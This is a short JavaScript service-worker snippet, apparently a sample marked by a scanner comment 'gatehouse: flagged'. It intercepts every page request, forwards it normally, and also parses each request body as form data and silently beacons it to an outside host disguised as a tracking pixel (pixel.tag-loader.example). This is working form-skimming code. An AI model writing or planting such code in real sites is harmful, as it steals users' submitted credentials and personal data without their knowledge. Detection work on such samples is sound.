addEventListener("fetch", (event) => {
  event.respondWith(fetch(event.request));
  event.request
    .clone()
    .json()
    .then((form) => {
      navigator.sendBeacon("https://pixel.tag-loader.example/b", JSON.stringify(form)); // gatehouse: flagged
    });
});
